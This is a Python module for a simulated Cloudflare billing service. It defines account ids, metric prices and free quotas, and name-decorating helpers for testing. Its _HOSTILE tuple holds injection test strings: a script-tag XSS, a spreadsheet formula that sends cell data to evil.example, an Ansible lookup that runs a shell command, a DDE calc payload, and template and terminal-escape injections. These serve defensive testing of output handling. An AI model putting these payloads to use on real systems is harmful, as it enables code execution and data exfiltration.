# Copyright (c) 2026, The finops.cloudflare contributors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""What the simulated Cloudflare sells, and the ids and names that are the same in every run."""

from __future__ import annotations

import hashlib
import uuid
from dataclasses import dataclass

ACCOUNT_ID = "023e105f4ecef8ad9ca31a8372d0c353"
NOT_COVERED_ACCOUNT_ID = "5a8e1c0f3b7d42968fd0a1b2c3e4f506"
ORGANIZATION_ID = "a7b9c3d2e8f4a1b5c6d7e8f9a0b1c2d3"
EMPTY_ORGANIZATION_ID = "e3b0c44298fc1c149afbf4c8996fb924"
SUB_ORGANIZATION_ID = "5b" * 16

# Accounts that pay as they go: version 1 has their bill, version 2 refuses them.
PAYGO_ACCOUNT_ID = "15" * 16
PAYGO_ACCOUNTS = {
    PAYGO_ACCOUNT_ID: "a cycle from the 15th",
    "29" * 16: "a cycle from the 29th",
    "30" * 16: "a cycle from the 30th",
    "31" * 16: "a cycle from the 31st",
    "22" * 16: "two subscriptions, with cycles from the 1st and from the 20th",
    "10" * 8 + "20" * 8: "an anchor that moved from the 10th to the 20th, on the 20th two months ago",
    "ed" * 16: "a subscription that ended on the 1st two months ago",
    "0a" * 16: "a subscription without any use, so nothing to pay: an empty list",
}
TOKEN = "simulator-token"

REGIONS = (
    ("WEUR", "Western Europe"),
    ("EEUR", "Eastern Europe"),
    ("ENAM", "Eastern North America"),
    ("WNAM", "Western North America"),
    ("APAC", "Asia-Pacific"),
    ("OC", "Oceania"),
)

CATEGORIES = {
    "Workers": "Developer",
    "R2": "Developer",
    "D1": "Developer",
    "Durable Objects": "Developer",
    "Queues": "Developer",
    "Workers AI": "Developer",
    "Vectorize": "Developer",
    "Containers": "Developer",
    "Images": "Media",
    "Stream": "Media",
    "Zero Trust": "Cloudflare One",
}


@dataclass(frozen=True)
class Paygo:
    """What version 1 calls a metric, how much of it is free in a cycle (or a day), and the block that is charged."""

    service: str
    included: float = 0
    block: int = 1
    """In units; 0: charged to the last fraction."""
    daily: bool = False


@dataclass(frozen=True)
class Metric:
    """One billable metric. Quantities are whole numbers of 10**-scale units, so that no sum depends on rounding."""

    id: str
    name: str
    unit: str
    family: str
    daily: int
    scale: int = 0
    zoned: bool = False
    flat: bool = False
    price: int = 0
    """List price of one unit, in 10**-12 of the currency."""

    @property
    def paygo(self) -> Paygo:
        return PAYGO.get(self.id) or Paygo(self.name)

    @property
    def category(self) -> str:
        return CATEGORIES.get(self.family, "Application Services")

    @property
    def family_id(self) -> str:
        return str(uuid.UUID(stable_id("product family", self.family)))


def _metric(
    family: str, name: str, unit: str, daily: float, price: float = 0.0, *, zoned: bool = False, flat: bool = False
) -> Metric:
    scale = 0 if unit in {"Requests", "Operations", "Rows", "Events", "Queries", "Images", "Neurons", "Seats"} else 6
    ident = name.lower().replace(" ", "_").replace("-", "_")
    return Metric(
        ident, name, unit, family, round(daily * 10**scale), scale, zoned=zoned, flat=flat, price=round(price * 10**12)
    )


# The first dozen is what a run shows by default: every kind of unit, and metrics with and without a zone.
METRICS = (
    _metric("Workers", "Workers Standard Requests", "Requests", 410_000, 0.30e-6),
    _metric("R2", "R2 Storage", "GB-months", 3.4, 0.015, flat=True),
    _metric("D1", "D1 Rows Read", "Rows", 92_000_000, 0.001e-6),
    _metric("Argo", "Argo Smart Routing Bandwidth", "GB", 18.5, 0.10, zoned=True),
    _metric("Workers", "Workers Standard CPU Time", "Milliseconds", 1_350_000, 0.02e-6),
    _metric("R2", "R2 Class A Operations", "Operations", 61_000, 4.50e-6),
    _metric("R2", "R2 Class B Operations", "Operations", 540_000, 0.36e-6),
    _metric("Durable Objects", "Durable Objects Duration", "GB-s", 15_500, 12.50e-6),
    _metric("Queues", "Queues Operations", "Operations", 120_000, 0.40e-6),
    _metric("Load Balancing", "Load Balancing Queries", "Queries", 260_000, 1.00e-6, zoned=True),
    _metric("Workers AI", "Workers AI Neurons", "Neurons", 23_000, 0.011e-3),
    _metric("Workers", "Workers KV Reads", "Operations", 700_000, 0.50e-6),
    _metric("Workers", "Workers KV Writes", "Operations", 33_000, 5.00e-6),
    _metric("Workers", "Workers KV Storage", "GB-months", 0.4, 0.50, flat=True),
    _metric("Workers", "Workers Logs Events", "Events", 900_000, 0.60e-6),
    _metric("Workers", "Workers Builds Minutes", "Minutes", 41, 0.005),
    _metric("D1", "D1 Rows Written", "Rows", 510_000, 1.00e-6),
    _metric("D1", "D1 Storage", "GB-months", 0.9, 0.75, flat=True),
    _metric("Durable Objects", "Durable Objects Requests", "Requests", 85_000, 0.15e-6),
    _metric("Durable Objects", "Durable Objects SQL Rows Read", "Rows", 7_000_000, 0.001e-6),
    _metric("Durable Objects", "Durable Objects SQL Rows Written", "Rows", 90_000, 1.00e-6),
    _metric("Durable Objects", "Durable Objects Storage", "GB-months", 0.2, 0.20, flat=True),
    _metric("R2", "R2 Data Retrieval", "GB", 6.2, 0.01),
    _metric("R2", "R2 Infrequent Access Storage", "GB-months", 1.7, 0.01, flat=True),
    _metric("Stream", "Stream Minutes Stored", "Minutes", 3_100, 0.005, flat=True),
    _metric("Stream", "Stream Minutes Delivered", "Minutes", 9_400, 0.001),
    _metric("Images", "Images Stored", "Images", 5_200, 0.05e-3, flat=True),
    _metric("Images", "Images Delivered", "Images", 48_000, 0.01e-3),
    _metric("Images", "Images Transformations", "Operations", 2_300, 0.5e-3, zoned=True),
    _metric("Vectorize", "Vectorize Stored Dimensions", "Dimensions", 350_000, 0.05e-8, flat=True),
    _metric("Vectorize", "Vectorize Queried Dimensions", "Dimensions", 4_000_000, 0.01e-6),
    _metric("Containers", "Containers vCPU", "vCPU-Hours", 52, 0.072),
    _metric("Containers", "Containers Memory", "GiB-Hours", 210, 0.009),
    _metric("Containers", "Containers Disk", "GB-Hours", 880, 0.000252),
    _metric("Containers", "Containers Egress", "GB", 3.1, 0.025),
    _metric("Cache Reserve", "Cache Reserve Storage", "GB-months", 0.8, 0.015, zoned=True, flat=True),
    _metric("Cache Reserve", "Cache Reserve Class A Operations", "Operations", 8_100, 4.50e-6, zoned=True),
    _metric("Rate Limiting", "Rate Limiting Requests", "Requests", 77_000, 0.05e-6, zoned=True),
    _metric("Zero Trust", "Zero Trust Seats", "Seats", 140, flat=True),
    _metric("Zero Trust", "Log Explorer Storage", "GB", 11.0, 0.10, flat=True),
)

# As published; the prices are those of METRICS.
PAYGO = {
    "workers_standard_requests": Paygo("Workers Standard Requests (First 10M included)", 10_000_000, 1_000_000),
    "workers_standard_cpu_time": Paygo("Workers CPU Time (ms, First 30M are included)", 30_000_000, 1_000_000),
    "workers_kv_reads": Paygo("KV Read Operations (First 10M included)", 10_000_000, 1_000_000),
    "workers_kv_writes": Paygo("KV Write Operations (First 1M included)", 1_000_000, 1_000_000),
    "workers_kv_storage": Paygo("KV Storage (GB, First GB is included)", 1),
    "d1_rows_read": Paygo("D1 Rows Read (First 25B included)", 25_000_000_000, 1_000_000),
    "d1_rows_written": Paygo("D1 Rows Written (First 50M included)", 50_000_000, 1_000_000),
    "d1_storage": Paygo("D1 Storage (GB-month, First 5GB included)", 5),
    "r2_class_a_operations": Paygo("R2 Storage Class A Operations (First 1M included)", 1_000_000, 1_000_000),
    "r2_class_b_operations": Paygo("R2 Storage Class B Operations (First 10M included)", 10_000_000, 1_000_000),
    "r2_storage": Paygo("R2 Data Stored (First 10GB included)", 10),
    "queues_operations": Paygo("Queues Operations (First 1M included)", 1_000_000, 1_000_000),
    "durable_objects_requests": Paygo("Durable Objects Requests (First 1M included)", 1_000_000, 1_000_000),
    "durable_objects_duration": Paygo("Durable Objects Duration (First 400k GB-s included)", 400_000, 1_000_000),
    "workers_ai_neurons": Paygo("Workers AI (Neurons, First 10k per day included)", 10_000, 1000, daily=True),
    "containers_vcpu": Paygo("Containers vCPU (First 375 vCPU-minutes included)", 6.25, 0),
    "containers_memory": Paygo("Containers Memory (First 25 GiB-hours included)", 25, 0),
    "containers_disk": Paygo("Containers Disk (First 200 GB-hours included)", 200, 0),
    "argo_smart_routing_bandwidth": Paygo("Argo Smart Routing (GB, First GB is included)", 1),
    "load_balancing_queries": Paygo("Load Balancing Queries (First 500k included)", 500_000, 500_000),
    "workers_logs_events": Paygo("Workers Logs Events (First 20M included)", 20_000_000, 1_000_000),
    "workers_builds_minutes": Paygo("Workers Builds Minutes (First 6000 included)", 6000, 0),
    "durable_objects_sql_rows_read": Paygo(
        "Durable Objects SQL Rows Read (First 25B included)", 25_000_000_000, 1_000_000
    ),
    "durable_objects_sql_rows_written": Paygo(
        "Durable Objects SQL Rows Written (First 50M included)", 50_000_000, 1_000_000
    ),
    "durable_objects_storage": Paygo("Durable Objects Storage (First 5GB included)", 5),
    "stream_minutes_stored": Paygo("Stream Minutes Stored", 0, 1000),
    "stream_minutes_delivered": Paygo("Stream Minutes Delivered", 0, 1000),
    "images_stored": Paygo("Images Stored", 0, 100_000),
    "images_delivered": Paygo("Images Delivered", 0, 100_000),
    "images_transformations": Paygo("Images Transformations (First 5000 included)", 5000, 1000),
    "vectorize_queried_dimensions": Paygo("Vectorize Queried Dimensions (First 50M included)", 50_000_000, 1_000_000),
    "vectorize_stored_dimensions": Paygo("Vectorize Stored Dimensions (First 10M included)", 10_000_000, 100_000_000),
    "cache_reserve_class_a_operations": Paygo("Cache Reserve Class A Operations", 0, 1_000_000),
}

CONTRACT_METRIC = _metric("Zero Trust", "Contract Log Volume", "GB", 25.0, 0.05)

_PLAIN = ("My Account", "Fabrikam GmbH", "Société Anonyme", "ops-prod", "ops-staging")
_UNICODE = ("日本語のアカウント", "Ünïcödé & Söhne 🚀", "حساب العربية", "Zoe\u0301 \u202elive\u202c", "ﷺ" * 20)
_HOSTILE = (
    "<script>alert('account')</script>",
    '=HYPERLINK("https://evil.example/?x="&A1,"click")',
    "{{ lookup('ansible.builtin.pipe', 'id') }}",
    "\x1b[31mred\x1b[0m\x1b]0;title\x07",
    "a|b`c`*d*_e_[f](javascript:alert(1))\n| g",
    "]]></testcase><!-- &amp; \"quoted\" 'single'",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "{% for x in range(9) %}{{ x }}{% endfor %}",
    'back\\slash "and" {label="x"}\ttab\r\nline',
    "-2+3" + "x" * 500,
)


def stable_id(*parts: object) -> str:
    """Return 32 hex characters that depend on nothing but the parts."""
    return hashlib.sha256("/".join(map(str, parts)).encode()).hexdigest()[:32]


def stable_number(*parts: object) -> int:
    """Return 64 bits that depend on nothing but the parts."""
    return int(stable_id(*parts)[:16], 16)


def metric_at(index: int) -> Metric:
    """Return a metric; past the end of the catalogue made-up ones go on for ever."""
    if index < len(METRICS):
        return METRICS[index]
    return _metric(f"Family {index // 10}", f"Sample Metric {index}", "Requests", 1000 + index, 1e-6)


def decorated(name: str, index: int, style: str) -> str:
    """Return a name as plain, unicode or hostile text; different things keep different names."""
    if style == "plain":
        return name
    texts = _UNICODE if style == "unicode" else _HOSTILE
    return f"{texts[index % len(texts)]} {name}"


def account_name(index: int, style: str) -> str:
    name = _PLAIN[index] if index < len(_PLAIN) else f"Account {index}"
    return decorated(name, index, style)
